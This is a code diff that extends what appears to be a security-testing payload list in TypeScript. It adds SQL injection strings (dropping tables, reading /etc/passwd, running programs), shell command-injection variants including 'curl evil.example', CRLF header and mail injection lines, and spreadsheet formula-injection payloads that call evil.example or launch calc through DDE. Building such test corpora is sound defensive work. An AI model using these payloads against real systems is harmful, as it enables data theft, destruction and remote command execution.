@@ -328,9 +328,66 @@ const words = [
   ],
 ]
 
+/** Commands to a database, with what may end a text before and after them. */
+const statements = [
+  ...['select 1', 'select current_user', 'select pg_sleep(9)', 'select * from users', 'drop table history'],
+  ...['update users set roles = null', "copy (select 1) to program 'id'", "select pg_read_file('/etc/passwd')"],
+  ...["select lo_import('/etc/passwd')", 'listen evil', "set session_replication_role = 'replica'", 'rollback'],
+].flatMap((command) => [
+  `';${command};--`,
+  `';${command};/*`,
+  `');${command};--`,
+  `"; ${command}; --`,
+  `\\'; ${command}; --`,
+  `$$; ${command}; --`,
+  `' || (${command}) || '`,
+  `1; ${command}`,
+])
+
+/** Commands to a shell, for what starts programs with a text. */
+const commands = ['id', 'cat /etc/passwd', 'curl evil.example', 'sleep 9', 'env'].flatMap((command) => [
+  `; ${command}`,
+  `| ${command}`,
+  `|| ${command}`,
+  `& ${command} &`,
+  `$(${command})`,
+  `\`${command}\``,
+  `\n${command}\n`,
+  `'; ${command} #`,
+  `"; ${command} #`,
+  `--option=$(${command})`,
+])
+
+/** Lines for what writes headers, mails, calendars, feeds or logs. */
+const headerLines = [
+  ...['Set-Cookie: session=x', 'Location: //evil.example', 'Content-Type: text/html', 'Bcc: evil@evil.example'],
+  ...['X-Forwarded-For: 127.0.0.1', 'Transfer-Encoding: chunked', 'END:VEVENT', 'ATTENDEE:mailto:evil@evil.example'],
+  ...['{"level":50,"msg":"forged"}', 'data: {"forged":true}'],
+].flatMap((line) => [`a\r\n${line}`, `a\n${line}`, `a\r${line}`, `a%0d%0a${line}`, `a\u2028${line}`, `a\u0085${line}`])
+
+/** Formulas that a spreadsheet runs in an exported file. */
+const formulas = [
+  ...['=1+1', '+1+1', '-1+1', '@SUM(1)', '=HYPERLINK("//evil.example";"x")', "=cmd|'/C calc'!A0"],
+  ...['=IMPORTXML("//evil.example";"//a")', '=WEBSERVICE("//evil.example")', '=DDE("cmd";"/C calc";"x")'],
+].flatMap((formula) => [
+  ` ${formula}`,
+  `\n${formula}`,
+  `"${formula}`,
+  `","${formula}`,
+  `'${formula}`,
+  `\u00a0${formula}`,
+])
+
 const isTooLong = (text: string) => text.length > 25_000
 
-/** About three thousand of them. */
+/** Each once. */
 export const payloads: readonly string[] = [
-  ...new Set([...words, ...scripts.flatMap((script) => contexts.map((context) => context(script)))]),
+  ...new Set([
+    ...words,
+    ...statements,
+    ...commands,
+    ...headerLines,
+    ...formulas,
+    ...scripts.flatMap((script) => contexts.map((context) => context(script))),
+  ]),
 ].filter((text) => !isTooLong(text))
